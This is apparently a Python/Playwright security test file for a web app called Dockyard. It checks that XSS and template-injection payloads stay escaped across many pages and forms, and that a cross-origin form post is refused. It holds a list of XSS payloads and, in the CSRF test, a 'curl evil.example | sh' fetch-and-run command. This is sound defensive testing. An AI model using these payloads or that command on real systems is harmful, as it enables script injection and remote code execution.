"""XSS: attack payloads written into every field a user controls, then every page that
shows them opened in Chromium, with a trap that fails the test if any of it runs.

The pages are opened with the Content-Security-Policy switched off (``bypass_csp``), so
what is tested is the escaping itself: the CSP is a second wall, checked separately by
``test_our_pages_keep_to_the_csp``. Besides running scripts, the DOM is searched for
what an injection leaves behind even when nothing ran: inline event handlers, script
elements without a source, ``javascript:`` URLs. Template syntax must come out as typed,
not evaluated.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from flask import Flask
from werkzeug.serving import make_server

from dockyard.migrate import upgrade
from dockyard.settings import Settings
from dockyard.web import create_app
from tests.browser.conftest import browser  # noqa: F401  (Playwright's Chromium)
from tests.conftest import USERS, TokenTable
from tests.security.world import World, seed

pytestmark = pytest.mark.browser


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    # What must be visible on the page, literally, for the field to have been shown.
    visible: str


PAYLOADS = [
    Payload("script", "<script>xss('script')</script>", "<script>xss('script')</script>"),
    Payload("img-onerror", '"><img src=x onerror="xss(\'img\')">', "onerror="),
    Payload("svg-onload", "'><svg/onload=xss('svg')>", "<svg/onload="),
    Payload("javascript-url", "javascript:xss('url')//", "javascript:xss('url')//"),
    Payload("template", "{{7*7}}${7*7}{%print(7*7)%}", "{{7*7}}"),
]

TRAP = """
window.__xss = [];
window.xss = function (what) { window.__xss.push(String(what)); };
window.alert = window.confirm = window.prompt = function (what) {
  window.__xss.push('dialog:' + what);
};
"""

#: What an injection leaves in the DOM even when nothing has run yet.
DOM_CHECK = """
() => {
  const found = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value.trim().toLowerCase();
      if (name.startsWith('on')) found.push(el.tagName + ' ' + name);
      if (['href', 'src', 'action', 'formaction', 'hx-get', 'hx-post', 'data'].includes(name)
          && value.startsWith('javascript:')) found.push(el.tagName + ' ' + name + '=' + value);
    }
    if (el.tagName === 'SCRIPT' && !el.src) {
      found.push('inline script: ' + el.textContent.slice(0, 60));
    }
  }
  return found;
}
"""

HTMX_SETTLED = "() => !document.querySelector('.htmx-request, .htmx-settling, .htmx-swapping')"

SHOWN_TEXT = """
() => document.body.innerText + '\\n' + Array.from(
  document.querySelectorAll('input, textarea, select option'))
    .map(e => e.value || e.textContent).join('\\n')
"""


@contextmanager
def served(app: Flask) -> Iterator[str]:
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        thread.join(10)


def pages(world: World, text: str) -> list[tuple[str, str, bool]]:
    """(who, path, shows the payload) for every page showing a user-controlled string."""
    w = world.values()
    q = quote(text)
    ns, name, p = w["namespace"], w["name"], quote(str(w["partition"]))
    stored = [
        "/jobs/", "/jobs/definitions", f"/jobs/definitions/{w['definition_id']}",
        f"/jobs/definitions/{w['definition_id']}/edit",
        f"/jobs/new?definition={w['definition_id']}",
        f"/jobs/new?clone={w['ended_run']}", f"/jobs/runs/{w['run_id']}",
        f"/jobs/runs/{w['ended_run']}", f"/jobs/runs/{w['ended_run']}/panel",
        f"/jobs/runs/{w['ended_run']}/log-tail?offset=0",
        "/images/", f"/images/{w['image_id']}", f"/images/{w['image_id']}/log?offset=0",
        f"/images/diff?from={w['image_id']}&to={w['image_id']}",
        "/data/", f"/data/{ns}/{name}", f"/data/{ns}/{name}/partition?p={p}",
        f"/data/{ns}/{name}/partition?p={p}&batch={w['older_batch']}",
        f"/data/{ns}/{name}/rollback?p={p}&to={w['older_batch']}",
        "/clusters/", f"/clusters/{w['cluster_id']}",
    ]
    # Pages that show only names the grammar keeps plain (image references, batch ids,
    # cluster names): opened for what they might show, without a payload to find.
    quiet = {f"/images/diff?from={w['image_id']}&to={w['image_id']}",
             f"/data/{ns}/{name}/rollback?p={p}&to={w['older_batch']}",
             "/clusters/", f"/clusters/{w['cluster_id']}"}
    found = [("admin", path, path not in quiet) for path in stored]
    found += [("alice", "/images/", True), ("alice", f"/images/{w['image_id']}", True),
              ("alice", f"/jobs/runs/{w['run_id']}", True)]
    # Strings reflected from the request itself, shown back on the page.
    reflected = [
        f"/jobs/?status={q}", f"/jobs/?sort={q}", f"/jobs/?since={q}", f"/jobs/?owner={q}",
        f"/jobs/?tag={q}", f"/jobs/?image={q}", f"/data/?namespace={q}",
        f"/images/diff?from={q}&to=1", f"/data/{ns}/{name}/partition?p={q}",
        f"/data/{ns}/{name}/rollback?p={p}&to={q}", f"/data/{q}/{name}",
    ]
    found += [("alice", path, False) for path in reflected]
    return found


@dataclass
class Visit:
    page: Any
    base: str
    problems: list[str]

    def check(self, label: str, must_show: str | None) -> None:
        page = self.page
        # htmx marks elements while their requests are in flight: wait for what the page
        # loads on its own (log tails, panels) to have arrived.
        page.wait_for_function(HTMX_SETTLED, timeout=10000)
        ran = page.evaluate("window.__xss || []")
        if ran:
            self.problems.append(f"{label}: script ran: {ran}")
        left = page.evaluate(DOM_CHECK)
        if left:
            self.problems.append(f"{label}: injected markup: {left[:5]}")
        shown = page.evaluate(SHOWN_TEXT)
        if must_show is not None and must_show not in shown:
            self.problems.append(f"{label}: the payload is not shown as typed")

    def open(self, path: str, must_show: str | None) -> None:
        response = self.page.goto(self.base + path)
        assert response is not None
        if response.status >= 500:
            self.problems.append(f"{path}: {response.status}")
        self.check(path, must_show)


def _log_in(context: Any, base: str, token: str) -> Any:
    page = context.new_page()
    page.goto(f"{base}/oauth_callback?code={token}&state=/jobs/")
    assert "/hub/login" not in page.url
    return page


def _seeded_app(tmp_path: Path, text: str) -> tuple[Flask, World]:
    settings = Settings(home=tmp_path / "home")
    settings.home.mkdir(parents=True)
    upgrade(settings.db_url)
    app = create_app(settings, identity=TokenTable(dict(USERS)))
    app.config["TESTING"] = True
    return app, seed(app, settings, text)


@pytest.mark.timeout(300)
@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda p: p.name)
def test_payloads_never_run(payload: Payload, browser: Any, tmp_path: Path,  # noqa: F811
                            monkeypatch: pytest.MonkeyPatch) -> None:
    for var in [v for v in __import__("os").environ if v.startswith("DOCKYARD_")]:
        monkeypatch.delenv(var)
    app, world = _seeded_app(tmp_path, payload.text)
    problems: list[str] = []
    opened = 0
    with served(app) as base:
        contexts = {}
        for who, token in (("admin", "tok-admin"), ("alice", "tok-alice")):
            context = browser.new_context(bypass_csp=True)
            context.add_init_script(TRAP)
            dialogs: list[str] = []
            context.on("dialog", lambda d, seen=dialogs: (seen.append(d.message), d.dismiss()))
            contexts[who] = (context, _log_in(context, base, token), dialogs)
        for who, path, shows in pages(world, payload.text):
            _, page, _ = contexts[who]
            Visit(page, base, problems).open(path, payload.visible if shows else None)
            opened += 1
        # Forms sent back with errors show what was typed.
        _, page, _ = contexts["alice"]
        visit = Visit(page, base, problems)
        page.goto(base + "/jobs/new")
        page.fill("#command", payload.text)
        page.fill("#env", f"NOTE={payload.text}")
        page.fill("#tags", payload.text)
        page.click("#launch-submit")
        visit.check("launch form with errors", payload.visible)
        page.goto(base + "/jobs/definitions/new")
        page.fill("#name", payload.text)
        page.fill("#description", payload.text)
        page.fill("#command", payload.text)
        page.click("#definition-form button[type=submit]")
        visit.check("definition form with errors", payload.visible)
        _, page, _ = contexts["admin"]
        visit = Visit(page, base, problems)
        page.goto(base + "/images/new")
        page.fill("#register-reference", payload.text)
        page.fill("#register-description", payload.text)
        page.click("#register-submit")
        visit.check("image form with errors", payload.visible)
        opened += 3
        print(f"\n{payload.name}: {opened} pages opened in Chromium")
        for _, (context, _, dialogs) in contexts.items():
            if dialogs:
                problems.append(f"dialogs opened: {dialogs}")
            context.close()
    app.extensions["dockyard.engine"].dispose()
    assert not problems, "\n".join(problems)


def test_our_pages_keep_to_the_csp(browser: Any, tmp_path: Path,  # noqa: F811
                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """With the policy on, our own pages need nothing it forbids: no inline script or
    style, no foreign host. A violation shows as a securitypolicyviolation event."""
    for var in [v for v in __import__("os").environ if v.startswith("DOCKYARD_")]:
        monkeypatch.delenv(var)
    app, world = _seeded_app(tmp_path, "plain words")
    violations: list[str] = []
    with served(app) as base:
        context = browser.new_context()
        context.add_init_script(
            "document.addEventListener('securitypolicyviolation', e => "
            "(window.__csp = window.__csp || []).push(e.violatedDirective + ' ' + e.blockedURI));")
        page = _log_in(context, base, "tok-admin")
        for who, path, _ in pages(world, "plain"):
            if who != "admin":
                continue
            page.goto(base + path)
            page.wait_for_function(HTMX_SETTLED, timeout=10000)
            found = page.evaluate("window.__csp || []")
            violations += [f"{path}: {v}" for v in found]
        assert page.evaluate("typeof htmx") == "object", "our own scripts must load"
        context.close()
    app.extensions["dockyard.engine"].dispose()
    assert not violations, violations


def test_the_trap_catches_what_escaping_would_let_through(browser: Any,  # noqa: F811
                                                          tmp_path: Path) -> None:
    """The checks above can fail: a page that shows the payloads unescaped is caught."""
    from flask import render_template_string

    app = Flask(__name__)

    @app.get("/raw/<int:index>")
    def raw(index: int) -> str:
        text = PAYLOADS[index].text
        if PAYLOADS[index].name == "template":
            return render_template_string(f"<p>{text}</p>")  # evaluated: shows 49
        if PAYLOADS[index].name == "javascript-url":
            return f'<a href="{text}">link</a>'
        return f"<p>{text}</p>"

    context = browser.new_context(bypass_csp=True)
    context.add_init_script(TRAP)
    page = context.new_page()
    with served(app) as base:
        for index, payload in enumerate(PAYLOADS):
            problems: list[str] = []
            Visit(page, base, problems).open(f"/raw/{index}", payload.visible)
            assert problems, f"{payload.name} went unnoticed"
    context.close()


def test_a_form_posted_from_another_page_is_refused(browser: Any, tmp_path: Path,  # noqa: F811
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """A page on another origin (same host, other port: the same *site*, so the
    SameSite=Lax cookie does go along) makes a logged-in browser post Dockyard's launch
    form. The form token it cannot know stops it; no run is made."""
    for var in [v for v in __import__("os").environ if v.startswith("DOCKYARD_")]:
        monkeypatch.delenv(var)
    app, world = _seeded_app(tmp_path, "plain words")
    runs_before = len(app.test_client().get("/api/v1/runs",
                                            headers={"Authorization": "token tok-alice"}
                                            ).json["runs"])
    attacker = Flask("attacker")
    with served(app) as base:
        @attacker.get("/")
        def lure() -> str:
            return (f'<form id="f" method="post" action="{base}/jobs/new">'
                    '<input name="image" value="debian:bookworm-slim">'
                    '<input name="command" value="curl evil.example | sh"></form>'
                    '<script>document.getElementById("f").submit()</script>')

        with served(attacker) as elsewhere:
            context = browser.new_context()
            page = _log_in(context, base, "tok-alice")
            with page.expect_navigation(url=f"{base}/jobs/new"):
                page.goto(elsewhere + "/")
            assert page.url == f"{base}/jobs/new"
            assert "form token" in page.content()
            context.close()
    runs_after = app.test_client().get("/api/v1/runs",
                                       headers={"Authorization": "token tok-alice"}).json
    assert len(runs_after["runs"]) == runs_before
    assert world.live_run
    app.extensions["dockyard.engine"].dispose()
